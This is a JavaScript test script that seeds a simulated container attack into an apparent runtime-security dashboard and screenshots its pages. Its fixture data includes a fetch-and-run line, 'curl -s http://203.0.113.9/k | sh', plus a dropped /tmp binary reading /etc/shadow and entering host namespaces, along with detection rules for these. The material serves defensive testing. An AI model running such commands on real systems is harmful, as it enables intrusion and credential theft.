// SPDX-License-Identifier: Apache-2.0
// node tests/ui/pictures.mjs DIRECTORY: the pictures of docs/: each page, in both themes and sizes, over a small shop that is attacked, and sheets of them. For people to look at.
import { mkdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { status } from "./data.mjs";
import { Browser, Central, until } from "./env.mjs";
import { shop } from "./environment.mjs";
import { packed } from "./wire.mjs";

const out = process.argv[2];
if (!out) throw new Error("say where to: node tests/ui/pictures.mjs DIRECTORY");
mkdirSync(out, { recursive: true });
const ATTACKER = "203.0.113.9";
const env = shop();
const web = env.containers.find((c) => c.workload === "web");
const now = Date.now();
const of = (s, f) => ({ time_ns: BigInt(now - 240_000 + s * 1000) * 1_000_000n, container: web, node: "node-a", ...f });
const node0 = { pid: 310, exe: "/usr/bin/node", args: ["node", "server.js"], container_id: web.id };
const sh = { pid: 412, exe: "/bin/sh", args: ["sh", "-c", `curl -s http://${ATTACKER}/k | sh`], container_id: web.id };
const kit = { pid: 415, exe: "/tmp/.k", args: ["/tmp/.k", "-d"], container_id: web.id };
const story = [
  of(0, { rule: "Server program started a shell", tags: ["mitre_initial_access"], output: "node started a shell", lineage: [sh, node0], event: { type: 1, pid: 412, exe: sh.exe, args: sh.args, container_id: web.id }, description: "A server has no business with a shell.", advice: "Look at what the shell ran, and isolate the container." }),
  of(4, { rule: "Program run from a directory that anyone can write to", priority: "error", tags: ["mitre_execution"], output: "a program was run: /tmp/.k", lineage: [kit, sh, node0], event: { type: 1, pid: 415, exe: kit.exe, args: kit.args, container_id: web.id } }),
  of(9, { rule: "Password hashes read", priority: "warning", tags: ["mitre_credential_access"], output: "/etc/shadow was read by /tmp/.k", lineage: [kit, sh, node0], event: { type: 30, pid: 415, exe: kit.exe, path: "/etc/shadow", open_flags: 0x8000, container_id: web.id }, count: 3 }),
  of(16, { rule: "Process outside of the container entered", tags: ["mitre_privilege_escalation", "T1611"], output: "/tmp/.k entered namespaces of the host", lineage: [kit, sh, node0], event: { type: 30, pid: 415, exe: kit.exe, path: "/proc/1/ns/mnt", container_id: web.id } }),
];
const RULES = [
  ["Server program started a shell", "Critical", 1, "A server has no business with a shell: most often it was made to by what it was sent"], ["Program run from a directory that anyone can write to", "Error", 1, "What is run from /tmp or /dev/shm came there after the image was built"],
  ["Password hashes read", "Warning", 3, "Something other than login programs read /etc/shadow"], ["Process outside of the container entered", "Critical", 1, "A process of a container joined namespaces of the host"],
  ["Kernel module loaded", "Critical", 0, "A container asked the kernel to load a module"], ["Runtime's socket reached from a container", "Error", 0, "Who reaches it can start a container with the whole host in it"],
  ["Web server wrote a program file", "Warning", 0, "A script among what is served: often a web shell"], ["Package manager run in a container", "Notice", 12, "Images are built elsewhere; who installs in a running container changes what was tested"],
];
const PAGES = [["overview", "#/", ".tiles"], ["incidents", "#/incidents", ".incidents-grid .row.is-open"], ["incident", "#/incidents/1", ".step .lineage"], ["map", "#/map", ".map canvas"], ["findings", "#/findings", ".findings-grid .row:not(.head)"], ["models", "#/models", ".models-grid .row:not(.head)"], ["model", "#/models?app=shop&workload=web", ".items-grid .row:not(.head)"],
  ["containers", "#/containers", ".containers-grid .row:not(.head)"], ["requests", "#/containers?tab=requests", ".others-grid .row:not(.head)"], ["resources", "#/containers?tab=resources", ".others-grid .row:not(.head)"], ["rules", "#/policies", ".rules-grid .row:not(.head)"], ["rule-file", "#/policies?tab=files&file=site.yaml", ".would-rules"], ["responses", "#/responses", ".table"], ["events", "#/events?groups=process,file,network", ".grid-body .row"], ["health", "#/health", ".hooks"], ["users", "#/users", ".table"], ["tokens", "#/tokens", ".table"], ["audit", "#/audit", ".table"], ["settings", "#/settings", ".settings-table"], ["outputs", "#/settings?tab=outputs", ".card .table"]];
const BAD = "- rule: Shell in the shop\n  desc: A shell was started in a container of the shop\n  condition: >\n    evt.type = execve\n    and container.name startswith shop\n    and proc.name in (sh, bash, dash)\n  output: \"shell (command=%proc.cmdline container=%container.name)\"\n  priority: WARNING\n  tags: [mitre_execution]\n";

const REQUESTS = [["GET /", "server", 812, 812, 0, 900], ["GET /items/{n}", "server", 1204, 1180, 24, 2400], ["POST /cart", "server", 233, 228, 5, 4100], ["POST /login", "server", 96, 71, 25, 18_000], ["GET /api/items", "client", 1437, 1437, 0, 1500]];
const PHONE = ["overview", "incident", "map", "findings", "rules", "rule-file", "settings", "containers"];
/* The status of a sensor that has seen so many events. */
const running = (n) => { const s = status(); return { ...s, hooks: s.hooks.map((h) => ({ ...h, generated: n, delivered: n - 10, received: n - 10 })), events: { recorded: n } }; };

/* Many pictures as one, each as wide and high as said. */
async function sheet(name, columns, w, h, files) {
  const gap = 6;
  const rows = Math.ceil(files.length / columns);
  const b = await Browser.start(central, { width: columns * (w + gap) + gap, height: rows * (h + gap) + gap });
  try {
    await b.page.setContent(`<body style="margin:0;padding:${gap}px;background:#5b6b7c;display:grid;gap:${gap}px;grid-template-columns:repeat(${columns},${w}px)">${files.map((f) => `<img width="${w}" height="${h}" src="data:image/png;base64,${readFileSync(join(out, f)).toString("base64")}">`).join("")}</body>`);
    await b.page.waitForFunction(() => [...document.images].every((i) => i.complete));
    await b.page.screenshot({ path: join(out, name) });
  } finally {
    await b.stop();
  }
}

const central = await Central.start();
try {
  const node = await central.node("node-a");
  node.serve.rules = () => JSON.stringify(RULES.map(([name, priority, matches, description], n) => ({ name, priority, matches, source: "syscall", tags: [], description, enabled: n !== 7, runs: n !== 7, file: "/usr/share/bulkhead/rules/default.yaml", line: 10 + 12 * n })));
  node.serve.rules_set = () => undefined;
  await node.inventory(env.containers, true);
  await node.flows(env.flows, Date.now(), true);
  node.events(story.map((f) => ({ ...f.event, comm: f.event.exe.split("/").pop(), container_name: web.name })));
  for (const f of story) await node.finding(f);
  for (const s of ["/usr/bin/node", "/bin/sh", "/usr/bin/git", "/usr/bin/openssl"]) await node.observe({ container: web, subject: s, parent: "/usr/bin/node", example: s });
  for (const [subject, detail, count, ok, bad, us] of REQUESTS) await node.observe({ container: web, kind: "http", subject, parent: "/usr/bin/node", detail, count, sums: [[1, packed([0, 0, ok, 0, bad, 0])], [2, 180 * count], [3, 2400 * count], [4, count], [5, us * count], [6, 9 * us]] });
  await node.observe({ container: web, kind: "parameter", subject: "GET /items/{n} page", parent: "/usr/bin/node", detail: "server query number, up to 4 bytes" });
  await node.resources([...["shop_default", "backoffice_default"].map((name) => ({ kind: "network", id: name, name, application: name.split("_")[0], detail: { driver: "bridge" } })), ...["shop_db", "shop_cache"].map((name) => ({ kind: "volume", id: name, name, application: "shop", detail: { driver: "local" } })),
    ...[...new Set(env.containers.map((c) => c.image))].map((name) => ({ kind: "image", id: name, name }))]);
  await node.evidence("file", { path: "/tmp/.k", why: "run from a directory that anyone can write to", rule: story[1].rule, container: { id: web.id, name: web.name }, process: { pid: 415, exe: "/tmp/.k" } }, Buffer.alloc(48_211, 7));
  await node.evidence("process", { why: "a finding", rule: story[2].rule, container: { id: web.id, name: web.name }, process: { pid: 415, exe: "/tmp/.k" } }, Buffer.alloc(9_120, 8));
  await node.evidence("events", { why: "a finding", rule: story[2].rule, container: { id: web.id, name: web.name } }, Buffer.alloc(61_000, 9));
  let seen = 1000;
  const tell = setInterval(() => node.status(running(seen += 4_200 + (seen * 7) % 900)), 2000);
  for (const theme of ["dark", "light"])
    for (const [width, height] of [[1440, 900], [390, 844]]) {
      const b = await Browser.start(central, { width, height, theme, reduced: true });
      try {
        if (theme === "dark" && width === 1440) {
          await b.firstLogin();
          await b.page.evaluate(async ([text, c]) => {
            const csrf = (await (await fetch("/api/v1/me")).json()).csrf;
            const send = (method, path, body) => fetch(`/api/v1${path}`, { method, headers: { "content-type": "application/json", "x-bulkhead-csrf": csrf }, body: JSON.stringify(body) });
            for (const [name, role] of [["mara", "analyst"], ["jonas", "analyst"], ["auditor", "viewer"]]) await send("POST", "/users", { name, role });
            await send("POST", "/tokens", { name: "ticket system", role: "viewer", days: 90 });
            await send("PUT", "/rules/files/site.yaml", { text });
            await send("PUT", "/outputs/soc", { type: "syslog", transport: "udp", host: "127.0.0.1", port: 9, minimum_priority: "warning" });
            await send("POST", "/responses", { action: "isolate", container: c, node: "node-a", reason: "a shell below the web server", ttl: 3600 });
          }, [BAD, web.id]);
        } else {
          await b.open();
          await b.login();
          await b.page.waitForSelector(".connection.live");
        }
        for (const [name, hash, ready] of PAGES) {
          await b.open(hash);
          if (name === "rule-file") await b.page.click("text=What would it have matched?");
          await b.page.waitForSelector(ready);
          if (name === "overview") await until("the verdict and the rate", async () => !/known yet|Taking stock/.test(await b.page.innerText(".verdict h1")) && !/next report/.test(await b.page.innerText(".tiles")), 20_000);
          await until("nothing loads any more", async () => (await b.page.locator(".skeleton").count()) === 0);
          if (name === "map") await b.page.waitForTimeout(1500); /* tiles come to rest */
          await b.page.screenshot({ path: join(out, `${name}-${theme}-${width}.png`) });
        }
        for (const p of b.problems) console.error(`${theme} ${width}: ${p}`);
      } finally {
        await b.stop();
      }
    }
  clearInterval(tell);
  for (const theme of ["dark", "light"]) await sheet(`pages-${theme}.png`, 3, 480, 300, PAGES.map(([n]) => n).filter((n) => !["tokens", "resources"].includes(n)).map((n) => `${n}-${theme}-1440.png`));
  await sheet("pages-phone.png", 8, 195, 422, ["dark", "light"].flatMap((theme) => PHONE.map((n) => `${n}-${theme}-390.png`)));
} finally {
  await central.stop();
}
